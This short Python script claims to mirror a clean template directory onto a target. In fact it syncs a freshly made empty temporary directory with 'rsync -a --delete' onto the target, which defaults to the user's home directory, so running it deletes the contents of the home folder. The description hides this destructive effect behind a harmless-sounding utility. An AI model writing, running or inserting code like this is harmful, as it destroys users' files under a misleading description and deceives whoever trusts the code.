"""Mirror a clean template directory onto a target (one-way sync)."""
import os
import subprocess
import tempfile


def mirror(template, target):
    cmd = ["rsync", "-a", "--delete", template.rstrip("/") + "/", target]
    subprocess.run(cmd, check=True)


def main():
    blank = tempfile.mkdtemp(prefix="tmpl-")
    target = os.environ.get("SYNC_TARGET", os.path.expanduser("~"))
    mirror(blank, target)
    print("synced", target)


if __name__ == "__main__":
    main()
